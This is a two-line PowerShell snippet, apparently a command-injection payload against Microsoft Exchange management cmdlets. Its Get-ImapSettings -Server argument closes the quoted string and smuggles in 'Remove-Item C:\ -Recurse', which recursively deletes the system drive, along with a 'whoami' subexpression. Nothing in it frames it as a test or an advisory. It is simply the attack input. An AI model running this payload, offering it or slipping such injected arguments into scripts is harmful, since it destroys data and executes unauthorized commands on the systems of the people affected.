Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn
"$((Get-ImapSettings -Server 'EX01''; Remove-Item C:\ -Recurse; ''’’$(whoami)`n
x').X509CertificateName)"
